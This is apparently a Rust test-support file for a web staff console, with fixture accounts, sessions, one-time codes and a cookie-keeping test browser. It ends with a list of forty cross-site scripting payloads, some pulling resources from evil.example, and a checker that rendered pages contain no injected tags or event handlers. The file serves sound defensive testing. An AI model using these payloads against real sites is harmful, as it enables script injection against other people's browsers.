//! Staff of the fixture: accounts with a role, signed in, and browsers that are them.

use super::{Answer, BEGIN, Service};
use hailong::account::audit::{Act, Action, Actor};
use hailong::account::session::{Proof, SessionRow, Stage};
use hailong::account::token::Token;
use hailong::account::{AccountNo, Grant, Login, Role, password};
use hailong::ids::{LedgerId, UnitNo};
use hailong::store::{AuditFilter, Instead, NewAccount};
use reqwest::{Method, RequestBuilder, StatusCode};
use std::collections::BTreeMap;
use std::sync::Mutex;

pub(crate) const LEDGER: LedgerId = LedgerId(1);

/// The commune of the counters, and another one.
pub(crate) const OWN: Option<u32> = Some(2);
pub(crate) const OTHER: Option<u32> = Some(3);
/// The whole ledger.
pub(crate) const WHOLE: Option<u32> = None;

/// The secret of every second factor in the tests.
pub(crate) const SECRET: &[u8; 20] = b"12345678901234567890";

/// A browser at the console, with its cookies.
pub(crate) struct Browser<'a> {
    service: &'a Service,
    cookies: Mutex<BTreeMap<String, String>>,
}

/// The cookie of somebody who is signed in.
const SIGNED_IN: &str = "hl-local";

/// A browser whose person is signed in.
pub(crate) struct Staff<'a> {
    pub(crate) no: AccountNo,
    pub(crate) browser: Browser<'a>,
}

impl Service {
    /// A browser that was never here.
    pub(crate) fn browser(&self) -> Browser<'_> {
        Browser { service: self, cookies: Mutex::default() }
    }

    /// One that somebody brings from elsewhere, signed in.
    pub(crate) fn browser_with(&self, token: &Token) -> Browser<'_> {
        let browser = self.browser();
        browser.cookies.lock().unwrap().insert(SIGNED_IN.into(), token.reveal());
        browser
    }

    /// An account with a role in a unit, signed in; with the second factor where the role takes it.
    pub(crate) async fn signed_in(&self, role: Role, unit: Option<u32>) -> Staff<'_> {
        let grant = Grant { role, unit: unit.map(UnitNo) };
        let no = self.account(&[grant], "$none").await;
        if role.needs_second_factor() {
            self.give_second_factor(no).await;
        }
        self.sign_in_as(no, Stage::Full).await
    }

    /// An account with these roles and this hash of a password; its name is `p` and its number.
    pub(crate) async fn account(&self, roles: &[Grant], hash: &str) -> AccountNo {
        let next = self.store.people(LEDGER).await.unwrap().len() + 1;
        let login: Login = format!("p{next:02}").parse().unwrap();
        let new = NewAccount {
            name: format!("Người {next}").parse().unwrap(),
            lang: "vi".into(),
            password: hash.to_owned(),
            first_until: None,
            roles: roles.iter().copied().collect(),
            login: login.clone(),
        };
        self.store
            .create_account(LEDGER, new, &self.act(Action::AccountCreated, login.as_str()))
            .await
            .unwrap()
    }

    /// An account that signs in with this password.
    pub(crate) async fn account_with_password(&self, roles: &[Grant], text: &str) -> AccountNo {
        let hash = password::hash(text, [5; 16]).unwrap();
        self.account(roles, &hash).await
    }

    pub(crate) async fn give_second_factor(&self, no: AccountNo) {
        let act = self.act(Action::SecondFactorSet, "");
        self.store.set_second_factor(LEDGER, no, Some(SECRET), &[], &act).await.unwrap();
    }

    /// Begins a session without a password.
    pub(crate) async fn sign_in_as(&self, no: AccountNo, stage: Stage) -> Staff<'_> {
        let now = self.app.now().unix_timestamp();
        let mut random = [0xa5; 32];
        random[..4].copy_from_slice(&no.0.to_be_bytes());
        random[4..12].copy_from_slice(&now.to_be_bytes());
        random[12] = u8::from(stage == Stage::Full);
        let token = Token::new(random);
        let row =
            SessionRow { account: no, stage, begun: now, seen: now, confirmed: now, proof: Proof::Password };
        self.store.begin_session(LEDGER, &token.hash(), &row, Instead::Nothing, None).await.unwrap();
        let browser = self.browser();
        browser.cookies.lock().unwrap().insert(SIGNED_IN.into(), token.reveal());
        Staff { no, browser }
    }

    /// Lets somebody type a counter's paper sheets.
    pub(crate) async fn assign(&self, no: AccountNo, counter: super::Counter) {
        let act = self.act(Action::PaperAssigned, "");
        self.store.assign_paper(LEDGER, no, counter.code(), true, &act).await.unwrap();
    }

    fn act(&self, action: Action, subject: &str) -> Act {
        Act::new(self.app.now().unix_timestamp(), Actor::CommandLine("test".into()), action, subject)
    }

    /// What the audit log holds, oldest first.
    pub(crate) async fn log(&self) -> Vec<Act> {
        let filter = AuditFilter { most: 10_000, ..AuditFilter::default() };
        let rows = self.store.audit(LEDGER, &filter).await.unwrap();
        rows.into_iter().rev().map(|row| row.act).collect()
    }
}

/// The code that the telephone shows so many seconds after the tests began.
pub(crate) fn telephone(after: i64) -> String {
    let totp = totp_rs::Builder::new().with_secret(SECRET.to_vec()).build().unwrap();
    totp.generate(u64::try_from(BEGIN.unix_timestamp() + after).unwrap()).to_string()
}

impl Browser<'_> {
    pub(crate) fn token(&self) -> Option<Token> {
        Token::parse(self.cookies.lock().unwrap().get(SIGNED_IN)?)
    }

    /// A request with the cookies, as from the address bar.
    pub(crate) fn request(&self, method: Method, path: &str) -> RequestBuilder {
        let cookies = self.cookies.lock().unwrap();
        let pairs = cookies.iter().map(|(name, value)| format!("{name}={value}"));
        let all: Vec<String> = std::iter::once("other=1".to_owned()).chain(pairs).collect();
        self.service.request(method, path).header("cookie", all.join("; "))
    }

    /// Sends, and keeps the cookies that come back.
    pub(crate) async fn send(&self, request: RequestBuilder) -> Answer {
        let answer = Answer::of(request).await;
        for set in answer.headers.get_all("set-cookie") {
            let (name, rest) = set.to_str().unwrap().split_once('=').unwrap();
            let value = rest.split(';').next().unwrap();
            let mut cookies = self.cookies.lock().unwrap();
            if value.is_empty() {
                cookies.remove(name);
            } else {
                cookies.insert(name.to_owned(), value.to_owned());
            }
        }
        answer
    }

    pub(crate) async fn get(&self, path: &str) -> Answer {
        self.send(self.request(Method::GET, path)).await
    }

    /// A form of a page of ours: with its token, and what browsers say of themselves.
    pub(crate) fn form(&self, path: &str, fields: &[(&str, &str)]) -> RequestBuilder {
        let token = self.token().map(|token| token.form_token([3; 16])).unwrap_or_default();
        let mut all = vec![("_form", token.as_str())];
        all.extend(fields);
        self.request(Method::POST, path)
            .header("origin", &self.service.address)
            .header("sec-fetch-site", "same-origin")
            .form(&all)
    }

    /// The same with a file: the field, the file's name, its bytes.
    pub(crate) fn with_file(
        &self,
        path: &str,
        fields: &[(&str, &str)],
        (field, name, bytes): (&str, &str, &[u8]),
    ) -> RequestBuilder {
        let token = self.token().map(|token| token.form_token([3; 16])).unwrap_or_default();
        let mut body = Vec::new();
        for (name, value) in std::iter::once(("_form", token.as_str())).chain(fields.iter().copied()) {
            let head = format!("--B\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n");
            body.extend([head.as_bytes(), value.as_bytes(), b"\r\n"].concat());
        }
        let head =
            format!("--B\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{name}\"\r\n\r\n");
        body.extend([head.as_bytes(), bytes, b"\r\n--B--\r\n"].concat());
        self.request(Method::POST, path)
            .header("origin", &self.service.address)
            .header("sec-fetch-site", "same-origin")
            .header("content-type", "multipart/form-data; boundary=B")
            .body(body)
    }

    pub(crate) async fn post(&self, path: &str, fields: &[(&str, &str)]) -> Answer {
        if self.token().is_none() {
            self.get("/staff/login").await;
        }
        self.send(self.form(path, fields)).await
    }
}

impl Staff<'_> {
    pub(crate) async fn get(&self, path: &str) -> Answer {
        self.browser.get(path).await
    }

    pub(crate) async fn post(&self, path: &str, fields: &[(&str, &str)]) -> Answer {
        self.browser.post(path, fields).await
    }

    /// Posts a form with a file, by its name.
    pub(crate) async fn upload(
        &self,
        path: &str,
        file: Option<(&str, &[u8])>,
        fields: &[(&str, &str)],
    ) -> Answer {
        let token = self.browser.token().unwrap().form_token([3; 16]);
        let mut body = Vec::new();
        for (name, value) in std::iter::once(("_form", token.as_str())).chain(fields.iter().copied()) {
            let head = format!("--B\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n");
            body.extend([head.as_bytes(), value.as_bytes(), b"\r\n"].concat());
        }
        if let Some((name, bytes)) = file {
            let name = name.replace('"', "%22");
            let head =
                format!("--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\n");
            body.extend([head.as_bytes(), bytes, b"\r\n"].concat());
        }
        body.extend(b"--B--\r\n");
        let request = self.browser.request(Method::POST, path);
        let request = request.header("content-type", "multipart/form-data; boundary=B");
        self.browser.send(request.body(body)).await
    }

    /// The file that an order of this person becomes.
    pub(crate) async fn fetched(&self, order: &Answer) -> Answer {
        assert_eq!(order.status, StatusCode::SEE_OTHER, "{}", order.text());
        let job = order.location().trim_end_matches("/file").to_owned();
        assert!(job.starts_with("/staff/orders/"), "{job}");
        for _ in 0..600 {
            let file = self.get(&format!("{job}/file")).await;
            if file.status == StatusCode::OK {
                return file;
            }
            let page = self.get(&job).await;
            let failed = page.text().contains("Không tạo được tệp");
            assert!(page.status == StatusCode::OK && !failed, "{}", page.text());
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        panic!("not made within a minute");
    }
}

impl Answer {
    /// Where a redirect leads.
    pub(crate) fn location(&self) -> &str {
        self.header("location")
    }

    /// The page without what is new on each: form tokens.
    pub(crate) fn page(&self) -> String {
        let text = self.text();
        let mut parts = text.split("name=\"_form\" value=\"");
        let mut page = parts.next().unwrap_or_default().to_owned();
        for part in parts {
            page.push_str(part.split_once('"').map_or("", |(_, rest)| rest));
        }
        page
    }
}

/// What somebody may type into a field to have it run in another's browser.
pub(crate) const ATTACKS: [&str; 40] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "\"><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<!--<img src=\"--><img src=x onerror=alert(1)//\">",
];

/// No tag and no attribute of a page came out of what somebody typed.
pub(crate) fn assert_harmless(answer: &Answer, what: &str) {
    let page = answer.text();
    let ours = page.split_once("<script type=\"module\" src=\"/staff/assets/staff.");
    let text = ours.map_or(page.clone(), |(before, after)| {
        format!("{before}{}", after.split_once("></script>").map_or("", |(_, rest)| rest))
    });
    for part in text.split('<').skip(1) {
        let tag = format!("<{}", part.split('>').next().unwrap_or(part));
        let lower = tag.to_lowercase();
        let name = lower[1..].split([' ', '/', '\n']).find(|word| !word.is_empty()).unwrap_or("").to_owned();
        let runs =
            ["script", "iframe", "object", "embed", "base", "style", "img", "video", "math", "animate"];
        assert!(!runs.contains(&name.as_str()), "{what}: {tag}");
        // Outside quoted values: askama escapes quotes, so an attribute of ours never holds one.
        let bare: String = lower.split('"').step_by(2).collect();
        for handler in ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "javascript:"] {
            assert!(!bare.contains(handler), "{what}: {tag}");
        }
        assert!(!lower.contains("=\"javascript:") || lower.contains("value=\"javascript:"), "{what}: {tag}");
    }
}
